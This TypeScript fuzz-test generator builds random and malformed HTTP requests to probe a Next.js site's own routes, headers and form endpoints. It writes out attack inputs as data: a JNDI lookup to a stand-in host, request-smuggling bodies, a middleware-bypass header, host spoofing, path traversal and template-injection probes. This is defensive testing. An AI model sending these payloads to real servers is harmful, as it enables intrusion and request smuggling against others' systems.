import fc from 'fast-check';
import {aContact, aQuote, aRegistration} from '#__tests__/support/leads.ts';
import {deep, nastyText} from '#__tests__/support/nasty.ts';
import {localePath, PAGES, SEARCH} from '#lib/i18n/paths.ts';
import {LOCALES} from '#lib/i18n/routing.ts';

/** Stands in everything personal that is sent, so that it can be found where it may not be. */
export const MARK = 'zephyrine';
/** Beginning of every visitor's address (kept free for examples by RFC 5737). */
export const VISITORS = '198.51.100.';

/** What goes over the wire, as one character a byte. */
export interface Sent {
  bytes: string;
  /** The asked path, for whoever judges the answer; none where the bytes are no request. */
  path?: string;
  /** The answer comes without a body. */
  head: boolean;
  /** More follows by no one's fault but the sender's: he ends his side at once. */
  broken: boolean;
}

const latin = (text: string) => Buffer.from(text, 'utf8').toString('latin1');
/** Whatever may stand in a header's value. */
const headerText = nastyText.map((text) =>
  latin(text)
    .replace(/[\0-\x08\x0a-\x1f\x7f]/g, '')
    .slice(0, 500),
);

const PATHS = [
  ...LOCALES.flatMap((locale) => [...PAGES, SEARCH].map((page) => localePath(locale, page))),
  ...[
    'contact',
    'quote',
    'registration',
    'registration/email-check',
    'cities',
    'health',
    'metrics',
    'revalidate',
  ].map((name) => `/api/${name}`),
  '/post/1/article-1',
  '/post/2/article-2',
  '/en/post/1/article-1',
  '/post/999/x',
  '/blog/page/2',
  '/feed.xml',
  '/sitemap.xml',
  '/sitemap-1.xml',
  '/robots.txt',
  '/favicon.ico',
  '/.well-known/security.txt',
  '/assets/covers/wide/1/1.svg',
  '/assets/pictures/1-0-640.webp',
  '/assets/social/fr/accueil.png',
  '/assets/social/fr/post-1.png',
  '/_site/site.js',
  '/_next/image?url=http%3A%2F%2F127.0.0.1%2F&w=640&q=75',
  '/fr',
  '/fr/devis',
  '/PPDP',
];
const POSTED = [
  '/api/contact',
  '/api/quote',
  '/api/registration',
  '/api/registration/email-check',
  '/contact',
  '/devis',
  '/inscription',
  '/en/inscription',
];
const PIECES = [
  '..',
  '.',
  '%2e%2e',
  '%2F',
  '%5c',
  '\\',
  '%00',
  '%ff',
  '%',
  '%u002e',
  '',
  'en',
  'fr',
  'EN',
  'post',
  '1',
  '0',
  '-1',
  '1e9',
  '99999999999999999999',
  'blog',
  'page',
  'api',
  'assets',
  '_next',
  '_site',
  'static',
  'social',
  'covers',
  'pictures',
  '__proto__',
  'constructor',
  'toString',
  ';a=b',
  '@evil.invalid',
  ':80',
  'contact',
  'recherche',
  'index.html',
  '.env',
  '.data',
  'é',
  '%C3%A9',
  '\u00a0',
  '{{7*7}}',
  'introuvable',
  'reponse',
];

const piece = fc.oneof(
  fc.constantFrom(...PIECES),
  nastyText.map((text) => encodeURIComponent(text.toWellFormed()).slice(0, 300)),
);
const query = fc.oneof(
  fc.constant(''),
  fc.constantFrom(
    '?',
    '?q=%ff',
    '?service=1&service=2',
    '?q[]=1',
    '?key=../..',
    '?_rsc=1',
    '?__nextLocale=en',
    '?nxtPlocale=en',
  ),
  fc
    .tuple(fc.constantFrom('q', 'service', 'Email', 'key', 'postalCode', '_rsc'), nastyText)
    .map(([name, value]) => `?${name}=${MARK}${encodeURIComponent(value.toWellFormed()).slice(0, 2000)}`),
);
/** No blank and no line end: those are the business of the broken ones. */
const path = fc
  .oneof(
    {weight: 5, arbitrary: fc.constantFrom(...PATHS)},
    {weight: 3, arbitrary: fc.array(piece, {maxLength: 6}).map((parts) => `/${parts.join('/')}`)},
    {
      weight: 2,
      arbitrary: fc
        .tuple(fc.constantFrom(...PATHS), fc.nat(30), piece)
        .map(([known, at, inserted]) => known.slice(0, at) + inserted + known.slice(at)),
    },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        '*',
        '',
        'http://evil.invalid/',
        'https://localhost/devis',
        '//evil.invalid/',
        '/\\evil.invalid',
        'evil.invalid:443',
        `/${'a'.repeat(9_000)}`,
        `/${'a/'.repeat(4_000)}`,
        `/${'%61'.repeat(3_000)}`,
      ),
    },
  )
  .map((text) => latin(text).replace(/[\0-\x20\x7f]/g, ''));

/** Headers that something on the way may read, with what it may make of them. */
const HEADERS: Record<string, readonly string[]> = {
  host: ['evil.invalid', 'localhost:1', '[::1]', 'a'.repeat(300)],
  'x-forwarded-host': ['evil.invalid'],
  'x-forwarded-proto': ['https', 'javascript'],
  forwarded: ['for=1.2.3.4;host=evil.invalid'],
  'x-original-url': ['/api/health'],
  'x-http-method-override': ['DELETE'],
  'next-action': ['a'.repeat(42), 'x'],
  'next-router-state-tree': ['%5B%22%22%2C%7B%7D%5D', '[', deep(200)],
  rsc: ['1'],
  'next-router-prefetch': ['1', '2'],
  'next-url': ['/en', '//evil.invalid'],
  'next-resume': ['1'],
  'x-middleware-subrequest': ['middleware:middleware:middleware:middleware:middleware'],
  'x-middleware-rewrite': ['http://evil.invalid/'],
  'x-matched-path': ['/[locale]/devis'],
  'x-invoke-status': ['500'],
  'x-nextjs-data': ['1'],
  'content-security-policy-report-only': ["script-src 'nonce-abc'"],
  'accept-language': ['en', 'fr;q=0', '*', 'en-'.repeat(150)],
  'accept-encoding': ['br', 'gzip', 'br;q=0,gzip;q=0,identity;q=0', 'zstd', '*;q=NaN'],
  accept: ['text/x-component', 'application/json'],
  cookie: ['lang=en', 'lang=xx', `lang=%ff; consent=${MARK}`, `a=${'b'.repeat(3_000)}`, ';;;=;='],
  'if-none-match': ['*', 'W/"', `${'"x",'.repeat(700)}`],
  'if-modified-since': ['x', 'Thu, 01 Jan 1970 00:00:00 GMT'],
  range: ['bytes=0-', 'bytes=5-1', 'bytes=0-0,1-1,2-2', `bytes=${'0-1,'.repeat(500)}`, 'bytes=-99999999999'],
  origin: ['null', 'https://evil.invalid', 'http://localhost'],
  referer: [`http://localhost/inscription?Email=${MARK}@exemple.invalid`, 'http://['],
  'sec-fetch-site': ['cross-site', 'same-origin'],
  'sec-fetch-dest': ['document', 'empty'],
  authorization: ['Bearer x', 'Basic OjpbJw==', `Bearer ${'a'.repeat(2_000)}`],
  upgrade: ['websocket', 'h2c', 'TLS/1.0'],
  connection: ['upgrade', 'upgrade, http2-settings', 'content-length'],
  expect: ['100-continue', '200-ok'],
  te: ['trailers'],
  'content-language': ['en', 'xx'],
  'content-encoding': ['gzip', 'br'],
  'x-request-id': ['abcdefgh\tx', 'x'.repeat(100)],
  'x-forwarded-for': ['1.2.3.4, ', ', ,', '::::', 'unknown', '[2001:db8::1]:443'],
  'user-agent': [`${MARK}/1.0`, '${jndi:ldap://evil.invalid/a}'],
};
const header = fc.oneof(
  {
    weight: 4,
    arbitrary: fc
      .constantFrom(...Object.keys(HEADERS))
      .chain((name) =>
        fc
          .oneof(fc.constantFrom(...(HEADERS[name] ?? [''])), headerText)
          .map((value) => [name, value] as const),
      ),
  },
  {weight: 1, arbitrary: fc.tuple(fc.stringMatching(/^[a-zA-Z!#$&'*+.^_`|~-]{1,30}$/), headerText)},
);

const hurt = (fields: Record<string, unknown>) =>
  fc
    .tuple(
      fc.constantFrom(...Object.keys(fields)),
      fc.oneof(nastyText, fc.jsonValue({maxDepth: 3})),
      fc.boolean(),
    )
    .map(([name, value, really]) => ({...fields, ...(really && {[name]: value})}));
const person = {
  email: `${MARK}@exemple.invalid`,
  lastName: MARK,
  firstName: MARK,
  name: MARK,
  message: MARK,
  city: MARK,
};
const lead = fc.oneof(hurt(aContact(person)), hurt(aQuote(person)), hurt(aRegistration(person)));
const text = (value: unknown) => latin(JSON.stringify(value));
const body = fc.oneof(
  {weight: 4, arbitrary: lead.map((fields) => ({type: 'application/json', text: text(fields)}))},
  {
    weight: 3,
    arbitrary: lead.map((fields) => ({
      type: 'application/x-www-form-urlencoded',
      text: new URLSearchParams(
        Object.entries(fields).map(([name, value]) => [name, String(value).toWellFormed()]),
      ).toString(),
    })),
  },
  {
    weight: 2,
    arbitrary: fc.record({
      type: fc.constantFrom(
        'application/json',
        'text/plain',
        'multipart/form-data; boundary=x',
        'application/json; charset=utf-16',
        '',
        'application/x-www-form-urlencoded',
      ),
      text: fc.oneof(
        fc.uint8Array({maxLength: 400}).map((bytes) => Buffer.from(bytes).toString('latin1')),
        fc.constantFrom(
          deep(),
          '{"email":',
          'x'.repeat(70_000),
          `{"message":"${'é'.repeat(40_000)}"}`,
          '--x\r\nContent-Disposition: form-data; name="email"\r\n\r\nx\r\n--x--',
        ),
      ),
    }),
  },
);

const chunked = (content: string) =>
  `${(content.match(/[^]{1,5000}/g) ?? []).map((part) => `${part.length.toString(16)}\r\n${part}\r\n`).join('')}0\r\n\r\n`;

const visitor = fc.nat(250).map((number) => `${VISITORS}${number}`);
const method = fc.oneof(
  {weight: 6, arbitrary: fc.constantFrom('GET', 'GET', 'HEAD', 'POST', 'POST')},
  {
    weight: 1,
    arbitrary: fc.constantFrom('PUT', 'DELETE', 'OPTIONS', 'PATCH', 'TRACE', 'PROPFIND', 'PURGE', 'QUERY'),
  },
);

/** A request by the letter of HTTP: it has to be answered. */
const whole = fc
  .record({
    method,
    path: fc.oneof({weight: 3, arbitrary: path}, {weight: 1, arbitrary: fc.constantFrom(...POSTED)}),
    query,
    headers: fc.array(header, {maxLength: 5}),
    body: fc.option(body, {nil: undefined, freq: 2}),
    framing: fc.constantFrom('length', 'length', 'chunks'),
    visitor,
  })
  .map(({method: verb, path: asked, query: search, headers, body: sent, framing, visitor: from}): Sent => {
    const target = (asked || '/') + (asked.includes('?') ? '' : search);
    const content = sent?.text ?? '';
    const own: (readonly [string, string])[] = [
      ...(headers.some(([name]) => name === 'host') ? [] : [['Host', 'localhost'] as const]),
      ...headers,
      ...(sent?.type ? [['Content-Type', sent.type] as const] : []),
      ...(sent
        ? [
            framing === 'chunks'
              ? (['Transfer-Encoding', 'chunked'] as const)
              : (['Content-Length', String(content.length)] as const),
          ]
        : []),
      ['X-Forwarded-For', from],
      ['Connection', 'close'],
    ];
    const head = [`${verb} ${target} HTTP/1.1`, ...own.map(([name, value]) => `${name}: ${value}`)].join(
      '\r\n',
    );
    return {
      bytes: `${head}\r\n\r\n${sent && framing === 'chunks' ? chunked(content) : content}`,
      path: asked,
      head: verb === 'HEAD',
      broken: false,
    };
  });

const GET = 'GET / HTTP/1.1\r\nHost: localhost\r\n';
/** Each in its own way no request: it may be refused or dropped, and nothing more. */
const broken = fc
  .oneof(
    fc.uint8Array({minLength: 1, maxLength: 300}).map((bytes) => Buffer.from(bytes).toString('latin1')),
    fc
      .tuple(whole, fc.nat(400), fc.uint8Array({minLength: 1, maxLength: 4}))
      .map(
        ([{bytes}, at, put]) =>
          bytes.slice(0, at) + Buffer.from(put).toString('latin1') + bytes.slice(at + put.length),
      ),
    fc.tuple(whole, fc.nat(600)).map(([{bytes}, length]) => bytes.slice(0, length)),
    fc
      .tuple(whole, whole)
      .map(([one, other]) => one.bytes.replace('Connection: close\r\n', '') + other.bytes),
    fc.constantFrom(
      'GET /\r\n',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      '\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03',
      'CONNECT evil.invalid:443 HTTP/1.1\r\nHost: evil.invalid\r\n\r\n',
      `${GET}X: ${'a'.repeat(40_000)}\r\n\r\n`,
      `${GET}${'X: a\r\n'.repeat(3_000)}\r\n`,
      `${GET}X: a\r\n b\r\n\r\n`,
      `${GET}X : a\r\n\r\n`,
      `${GET}X: a\0b\r\n\r\n`,
      `${GET}Host: evil.invalid\r\n\r\n`,
      'GET / HTTP/1.1\r\n\r\n',
      'GET / HTTP/9.9\r\nHost: x\r\n\r\n',
      'GET / HTTP/1.1\nHost: x\n\n',
      'GET  / HTTP/1.1\r\nHost: x\r\n\r\n',
      'BREW /pot HTTP/1.1\r\nHost: x\r\n\r\n',
      'POST /api/contact HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET / HTTP/1.1\r\n\r\n',
      'POST /api/contact HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\nabcdef',
      'POST /api/contact HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n',
      'POST /api/contact HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\nFFFFFFFFFFFFFFFF\r\nx',
      'POST /api/contact HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n1;a=b\r\nx\r\n0\r\nTrailer: x\r\n\r\n',
      'POST /api/contact HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: xchunked\r\n\r\n',
    ),
  )
  .map((bytes): Sent => ({bytes, head: false, broken: true}));

export const request = fc.oneof({weight: 5, arbitrary: whole}, {weight: 1, arbitrary: broken});
